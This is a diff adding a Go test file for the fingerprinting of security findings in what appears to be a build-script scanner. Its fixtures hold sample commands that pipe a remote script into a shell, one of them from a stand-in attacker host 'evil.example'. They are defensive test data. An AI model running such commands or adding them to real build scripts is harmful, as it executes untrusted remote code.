@@ -0,0 +1,53 @@
+package types
+
+import "testing"
+
+func TestFingerprintIgnoresWording(t *testing.T) {
+	finding := SecurityFinding{
+		Type:        "network_access",
+		Description: "Downloads a script during build",
+		LineNumber:  12,
+		Context:     "curl -s https://example.com/x.sh | sh",
+	}
+	reworded := finding
+	reworded.Type = " Network_Access"
+	reworded.Description = "Fetches and runs a remote script in build()"
+	reworded.Suggestion = "Pin the script by checksum"
+	reworded.LineNumber = 40
+	reworded.Context = "  curl -s   https://example.com/x.sh | sh "
+
+	if finding.ComputeFingerprint() != reworded.ComputeFingerprint() {
+		t.Errorf("fingerprint changed with wording, line or whitespace: %s vs %s",
+			finding.ComputeFingerprint(), reworded.ComputeFingerprint())
+	}
+}
+
+func TestFingerprintFollowsContext(t *testing.T) {
+	finding := SecurityFinding{Type: "network_access", Context: "curl -s https://example.com/x.sh | sh"}
+	changed := finding
+	changed.Context = "curl -s https://evil.example/x.sh | sh"
+	retyped := finding
+	retyped.Type = "obfuscation"
+
+	if finding.ComputeFingerprint() == changed.ComputeFingerprint() {
+		t.Errorf("fingerprint unchanged when context changed")
+	}
+	if finding.ComputeFingerprint() == retyped.ComputeFingerprint() {
+		t.Errorf("fingerprint unchanged when type changed")
+	}
+}
+
+func TestFillFingerprintsKeepsStored(t *testing.T) {
+	analysis := &SecurityAnalysis{Findings: []SecurityFinding{
+		{Type: "a", Context: "x"},
+		{Type: "b", Context: "y", Fingerprint: "stored"},
+	}}
+	analysis.FillFingerprints()
+
+	if got, want := analysis.Findings[0].Fingerprint, analysis.Findings[0].ComputeFingerprint(); got != want {
+		t.Errorf("Fingerprint = %q, want %q", got, want)
+	}
+	if got := analysis.Findings[1].Fingerprint; got != "stored" {
+		t.Errorf("stored fingerprint overwritten: %q", got)
+	}
+}